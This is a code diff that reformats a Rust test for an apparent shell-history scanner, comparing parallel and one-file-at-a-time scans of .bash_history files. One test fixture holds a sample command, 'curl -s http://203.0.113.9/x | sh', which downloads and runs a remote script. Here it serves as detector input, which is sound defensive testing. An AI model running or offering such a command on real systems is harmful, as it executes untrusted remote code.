@@ -343,7 +343,12 @@ fn parallel_and_repeated_lines_match_one_file_at_a_time() {
         .map(|u| {
             let user = format!("u{u}").into_bytes();
             let path = format!("/home/u{u}/.bash_history").into_bytes();
-            (user, path, Shell::Bash, ferret_testkit::history::history(u, 4_000))
+            (
+                user,
+                path,
+                Shell::Bash,
+                ferret_testkit::history::history(u, 4_000),
+            )
         })
         .collect();
     let inputs: Vec<HistoryInput<'_>> = data
@@ -354,7 +359,11 @@ fn parallel_and_repeated_lines_match_one_file_at_a_time() {
     let together = histories(&inputs, &opts, &Control::new().with_max_threads(4));
     let mut alone = HistoryReport::default();
     for i in &inputs {
-        let r = histories(std::slice::from_ref(i), &opts, &Control::new().with_max_threads(1));
+        let r = histories(
+            std::slice::from_ref(i),
+            &opts,
+            &Control::new().with_max_threads(1),
+        );
         alone.findings.extend(r.findings);
         alone.commands.extend(r.commands);
         alone.commands_total += r.commands_total;
@@ -379,7 +388,12 @@ fn parallel_and_repeated_lines_match_one_file_at_a_time() {
     // A line repeated verbatim is classified once and reported at every line.
     let h = b"curl -s http://203.0.113.9/x | sh\nls\ncurl -s http://203.0.113.9/x | sh\nls\n";
     let r = histories(
-        &[HistoryInput::new(b"eve", b"/home/eve/.bash_history", Shell::Bash, h)],
+        &[HistoryInput::new(
+            b"eve",
+            b"/home/eve/.bash_history",
+            Shell::Bash,
+            h,
+        )],
         &opts,
         &Control::new(),
     );
